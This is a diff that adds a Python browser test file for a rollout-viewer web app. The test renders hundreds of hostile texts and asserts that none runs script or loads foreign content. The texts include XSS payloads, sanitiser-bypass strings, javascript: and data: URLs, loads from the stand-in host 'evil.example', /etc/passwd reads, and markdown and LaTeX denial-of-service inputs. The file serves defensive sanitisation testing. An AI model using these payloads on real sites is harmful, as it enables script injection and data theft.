@@ -1,0 +1,295 @@
+"""Hostile texts in a real browser, on pages of rollouts and in an exported file.
+
+A page has all texts of a kind, each of them at every place of a conversation, to need few pages.
+"""
+
+import base64
+import shutil
+import socket
+import threading
+import time
+from contextlib import closing
+from itertools import product
+from urllib.parse import urlsplit
+
+import pytest
+import uvicorn
+
+from nightjar.view.server import Access, create_app
+from nightjar.warehouse import Warehouse
+
+playwright = pytest.importorskip("playwright.sync_api", reason="needs the extra 'dev'")
+axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="needs the extra 'dev'")
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)
+pytestmark = [
+    pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium or Chrome on the PATH"),
+    pytest.mark.slow,
+    pytest.mark.long,
+]
+PLACES = ("system", "user", "assistant", "reasoning", "arguments", "tool", "answer", "parsed answer", "error")
+TAKE = "window.taken=alert(1)"
+EVIL = "http://evil.example"
+ENCODED = base64.b64encode(f"<script>{TAKE}</script>".encode()).decode()
+TAGS = ("img src=x", "svg", "body", "iframe src=x", "video src=x", "details open", "input autofocus", "object data=x",
+        "math", "a href=#", "marquee", "form action=x", "x tabindex=1 autofocus")  # fmt: skip
+EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onstart")
+SCRIPTS = (
+    f"<script>{TAKE}</script>", f"<SCRIPT>{TAKE}</SCRIPT>", f"<script src={EVIL}/x.js></script>",
+    f"<scr<script>ipt>{TAKE}</scr</script>ipt>", f"<script/x>{TAKE}</script>", f"<svg><script>{TAKE}</script></svg>",
+    f"<<script>{TAKE}//<</script>", f"</code></pre></div><script>{TAKE}</script>", f"<!--><script>{TAKE}</script>-->",
+    f"<![CDATA[<script>{TAKE}</script>]]>", f"<?x <script>{TAKE}</script>?>", f"&lt;script&gt;{TAKE}&lt;/script&gt;",
+    f"&#60;script&#62;{TAKE}&#60;/script&#62;", f"`<script>{TAKE}</script>`", f"```html\n<script>{TAKE}</script>\n```",
+    f"    <script>{TAKE}</script>", f"```\"><script>{TAKE}</script>\nx\n```",
+    f"<iframe srcdoc='<script>{TAKE}</script>'>",
+    f"<template><script>{TAKE}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={TAKE}>\">",
+    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={TAKE}&gt;\">",
+    f"<svg></p><style><a id=\"</style><img src=1 onerror={TAKE}>\">", f"<style>@import '{EVIL}/x.css';</style>",
+    f"<link rel=stylesheet href={EVIL}/x.css>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href={EVIL}/>", f"<form action={EVIL}><button>x</button></form>", f"<div style='background:url({EVIL}/x)'>",
+    f"<textarea></textarea><script>{TAKE}</script>", f"<title></title><script>{TAKE}</script>", "</main></body></html>",
+    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{{TAKE}}} <%= {TAKE} %>", f"<svg><use href='{EVIL}/x.svg#x'></svg>",
+    f"<svg><animate xlink:href=#a attributeName=href values=javascript:{TAKE}></svg>",
+    f"<a href=javascript:{TAKE}>x</a>",
+)  # fmt: skip
+ADDRESSES = (
+    f"javascript:{TAKE}", f"JaVaScRiPt:{TAKE}", f"java\tscript:{TAKE}", f"java&#10;script:{TAKE}",
+    f"&#106;avascript:{TAKE}", f"\x01javascript:{TAKE}", f"javascript&colon;{TAKE}", f"vbscript:{TAKE}",
+    f"data:text/html;base64,{ENCODED}", f"data:image/svg+xml;base64,{ENCODED}", "file:///etc/passwd", "blob:null/x",
+    "//evil.example/x", "\\\\evil.example/x", "http:evil.example", f"{EVIL}\" onclick=\"{TAKE}", f"{EVIL}/'><script>",
+    "http://localhost\\@evil.example/", "http://127.0.0.1@evil.example", "https://\u0430pple.com", "http:///x",
+    "about:x",
+)  # fmt: skip
+FORMS = ("[a]({})", "<{}>", '[{0}]({0} "{0}")', "[a]\n\n[a]: {}", "![a]({})", "[a](<{}>)", "[![a]({0})]({0})")
+LATEX = (
+    r"\href{javascript:TAKE}{x}", r"\url{javascript:TAKE}", r"\text{<script>TAKE</script>}",
+    r"<img src=x onerror=TAKE>",
+    r"\style{background:url(EVIL)}{x}", r"\class{markdown}{x}", r"\cssId{keys}{x}", r"\htmlData{x=y}{z}",
+    r"\includegraphics{EVIL/x.png}", r"\input{/etc/passwd}", r"\def\a{\a\a}\a",
+    r"\newcommand{\a}[1]{#1#1}\a{\a{\a{x}}}",
+    r"\frac{1}{", r"\frac{1", r"}{", r"\left( x", r"\begin{align} a &= b", r"\end{align}", r"\begin{x}a\end{x}",
+    r"\unknown{x}",
+    r"&&&", r"x^y^z", r"\\\\", r"\\", r"\label{main}\ref{main}", r"\tag{<b>}x", r"\char`<script>", r"\unicode{x202e}",
+    r"\hspace{999999em}x", r"\rule{99999em}{99999em}", r"\color{red;background:url(EVIL)}{x}",
+    r"\boxed{<script>TAKE</script>}",
+    "x^{" * 300 + "}" * 300, "{" * 900 + "}" * 900, r"\sqrt" * 300 + "x", r"\frac1" * 300 + "1",
+    "\\left(" * 250 + "\\right)" * 250,
+    "\\begin{matrix}" * 60 + "\\end{matrix}" * 60, "&" * 900, "x" * 1_900, "\u202ex\x00\x1b", r"\text{\u202e}",
+    r"\verb|<script>|",
+)  # fmt: skip
+FORMULAS = [latex.replace("TAKE", TAKE).replace("EVIL", EVIL) for latex in LATEX]
+MATHS = ("${}$", "$${}$$", "\\[{}\\]", "{}")
+MARKDOWN = (
+    ">" * 3_000 + "a\n" + "b\n" * 500,
+    "> " * 3_000, "- " * 3_000, "* " * 3_000, "1. " * 1_000, "[" * 5_000, "![" * 2_500,
+    "[a](" * 2_500, "*a **b " * 1_000, "_" * 5_000, "`" * 5_000, "".join("`" * n + " " for n in range(90)), "<" * 5_000,
+    "&" * 5_000, "#" * 5_000, "|" * 5_000, "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|\n" * 500, "~" * 5_000,
+    "".join(" " * n + "- a\n" for n in range(90)), "[a]: b\n" * 500 + "[a]" * 500, "```\n" * 500, "a\n=\n" * 500,
+    "\\" * 5_000, "$" * 5_000, "$x$" * 1_000, "\\boxed{" * 500, "<!--" * 1_000, "<div>\n" * 500, "\ufdd00\ufdd1$x$",
+    "def f():\n    x\n" * 200, "```javascript\n" + "a=>" * 160 + "\n```", "```c\n" + "//" * 240 + "\n" * 5_000 + "```",
+)  # fmt: skip
+HIDDEN = [*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]
+SIGNS = [f"a{chr(code)}b **{chr(code)}** &#x{code:x}; `{chr(code)}` $x{chr(code)}$" for code in HIDDEN]
+KINDS = {
+    "elements": [f"<{tag} {event}={TAKE}>" for tag, event in product(TAGS, EVENTS)],
+    "scripts": list(SCRIPTS),
+    "addresses": [form.format(address) for form, address in product(FORMS, ADDRESSES)],
+    "formulas": [form.replace("{}", latex) for form, latex in product(MATHS, FORMULAS)],
+    "markdown": list(MARKDOWN),
+    "signs": SIGNS,
+}  # fmt: skip
+PAGES = [texts[at : at + 40] for texts in KINDS.values() for at in range(0, len(texts), 40)]
+RICH = r"""# A heading
+
+Some *text*, **bold**, ~~struck~~, `code`, a [link](https://example.org/), $x^2$ and \boxed{some words}.
+
+| a | b |
+|--:|:-:|
+| 1 | $\frac{1}{2}$ |
+
+```python
+def f(x: int) -> str:  # a comment
+    return "text" + str(1.5) + f"{x}"
+```
+
+```diff
+-old
++new
+```
+
+> a quote
+
+1. one
+   - [x] two
+
+$$\begin{aligned} a &= b \\ c &= \boxed{42} \end{aligned}$$
+"""
+FORBIDDEN = """
+[...document.querySelectorAll("main *")].filter(each =>
+    each.matches("script:not([src]), iframe, object, embed, style, link, img, base, meta, video, audio, use, animate")
+    || each.matches(".markdown :is(form, input, button, svg, textarea)")
+    || [...each.attributes].some(one => one.name.startsWith("on") || one.name === "style")
+    || each.href && !["http:", "https:", "file:"].includes(each.protocol)
+).map(each => each.outerHTML.slice(0, 300))
+"""
+INVISIBLE = r"""
+document.body.textContent.match(/[\0-\x08\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g) ?? []
+"""
+
+
+def hostile_rollout(run_writer, number, texts):
+    def said(text):
+        call = {"id": text, "name": "run", "arguments": {"text": text}}
+        return [
+            {"role": "system", "content": text},
+            {"role": "user", "content": text},
+            {"role": "assistant", "content": text, "reasoning_content": text, "tool_calls": [call]},
+            {"role": "tool", "tool_call_id": text, "content": text},
+        ]
+
+    together = "\n\n".join(texts)
+    completion = [message for text in texts for message in said(text)]
+    error = {**run_writer.failure, "message": together}
+    fields = {"answer": together, "parsed_answer": together}
+    return [
+        run_writer.rollout(number, 0, 1.0, completion=completion, **fields),
+        run_writer.failed(number, 1, error=error, **fields),
+    ]
+
+
+@pytest.fixture(scope="module")
+def warehouse(tmp_path_factory, run_writer):
+    """A warehouse of a run with a page of each group of texts, a short run to export, and a run of texts of 10 MB."""
+    folder = tmp_path_factory.mktemp("hostile")
+    short = [run_writer.rollout(1, 0, 1.0, completion=[{"role": "assistant", "content": RICH}], parsed_answer="42")]
+    short += hostile_rollout(run_writer, 0, SCRIPTS)
+    large = (RICH * (10_000_000 // len(RICH)), "|a|b|\n|-|-|\n" * 800_000, "<img src=x onerror=alert(1)> " * 350_000)
+    warehouse = Warehouse(folder / "warehouse")
+    for run_id, rows in {
+        "hostile": [row for number, texts in enumerate(PAGES) for row in hostile_rollout(run_writer, number, texts)],
+        "short": short,
+        "large": [
+            run_writer.rollout(number, 0, 1.0, completion=[{"role": "assistant", "content": text}], parsed_answer="42")
+            for number, text in enumerate(large)
+        ],
+    }.items():
+        told = {"run_id": run_id, "status": "completed", "state_columns": ["parsed_answer"]}
+        warehouse.publish(run_writer.write(folder / run_id, rows, **told), tidies=False)
+    return warehouse
+
+
+@pytest.fixture(scope="module")
+def address(warehouse):
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        server = uvicorn.Server(uvicorn.Config(create_app(warehouse, Access()), log_level="error"))
+        thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
+        thread.start()
+        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
+        server.should_exit = True
+        thread.join()
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with (
+        playwright.sync_playwright() as running,
+        closing(running.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])) as launched,
+    ):
+        yield launched
+
+
+@pytest.fixture
+def page(browser):
+    """A page that fails its test if a script of a text runs, or if something is fetched from elsewhere."""
+    with closing(browser.new_context()) as context:
+        opened, odd = context.new_page(), []
+        opened.set_default_timeout(30_000)
+        opened.on("dialog", lambda dialog: (odd.append(dialog.message), dialog.dismiss()))
+        opened.on("pageerror", lambda error: odd.append(str(error)))
+        opened.on("console", lambda said: odd.append(said.text) if said.type == "error" else None)
+        opened.on("request", lambda asked: odd.append(asked.url) if is_foreign(asked.url) else None)
+        yield opened
+        assert odd == []
+        assert opened.evaluate("window.taken") is None
+        assert opened.evaluate(FORBIDDEN) == []
+        assert opened.evaluate(INVISIBLE) == []
+
+
+def is_foreign(url):
+    return (
+        not url.startswith(("file:", "data:,", "data:image/svg+xml,%3Csvg")) and urlsplit(url).hostname != "127.0.0.1"
+    )
+
+
+def visit(page, url):
+    """Opens a page up to three times, until it takes less than two seconds. Returns the last time in seconds."""
+    for _ in range(3):
+        started = time.perf_counter()
+        assert page.goto(url, wait_until="load").status == 200
+        page.evaluate("document.body.offsetHeight")
+        taken = time.perf_counter() - started
+        assert page.url == url
+        if taken < 2:
+            break
+    return taken
+
+
+def assert_accessible(page):
+    for scheme in ("light", "dark"):
+        page.emulate_media(color_scheme=scheme)
+        violations = axe.Axe().run(page).response["violations"]
+        assert [(each["id"], each["nodes"][0]["html"]) for each in violations] == []
+
+
+def test_there_are_hundreds_of_texts():
+    texts = {text for page in PAGES for text in page}
+    assert len(texts) > 400
+    assert len(texts) * len(PLACES) > 3_000
+
+
+@pytest.mark.parametrize("number", range(len(PAGES)))
+def test_no_text_runs_or_fetches_anything(page, address, number):
+    assert visit(page, f"{address}/runs/hostile/{number}/0") < 2
+    assert page.locator(".markdown").count() > 0
+    assert visit(page, f"{address}/runs/hostile/{number}/1") < 2
+
+
+@pytest.mark.parametrize("number", range(3))
+def test_ten_megabytes_are_shown_in_two_seconds(page, address, number):
+    assert visit(page, f"{address}/runs/large/{number}/0") < 2
+    page.get_by_text("more characters; see the raw JSON").wait_for()
+
+
+def test_a_rendered_page_is_accessible_and_its_tables_scroll(page, address):
+    page.set_viewport_size({"width": 390, "height": 800})
+    visit(page, f"{address}/runs/short/1/0")
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    assert page.locator(".markdown math").count() > 0
+    assert page.locator(".markdown mark").inner_text().endswith("42")
+    assert_accessible(page)
+
+
+def test_the_raw_text_is_shown_by_a_key_and_remembered(page, address):
+    visit(page, f"{address}/runs/short/1/0")
+    raw, rendered = page.locator(".turn.assistant .raw").last, page.locator(".turn.assistant .markdown").last
+    assert (raw.is_visible(), rendered.is_visible()) == (False, True)
+    page.keyboard.press("r")
+    assert (raw.is_visible(), rendered.is_visible()) == (True, False)
+    assert raw.inner_text().strip() == RICH.strip()
+    assert_accessible(page)
+    page.reload()
+    assert (raw.is_visible(), rendered.is_visible()) == (True, False)
+    page.get_by_label("Raw text").uncheck()
+    assert (raw.is_visible(), rendered.is_visible()) == (False, True)
+
+
+def test_an_exported_file_runs_only_its_own_script(page, warehouse, nightjar, tmp_path):
+    file = tmp_path / "run.html"
+    ended = nightjar("export", "short", "--warehouse", warehouse.location, "--html", file)
+    assert ended.code == 0, ended.err
+    page.goto(file.as_uri(), wait_until="load")
+    page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
+    assert page.locator(".markdown mark").last.is_visible()
+    page.keyboard.press("r")
+    assert page.locator(".raw").last.is_visible()
+    page.reload()
+    assert page.get_by_label("Raw text").is_checked()
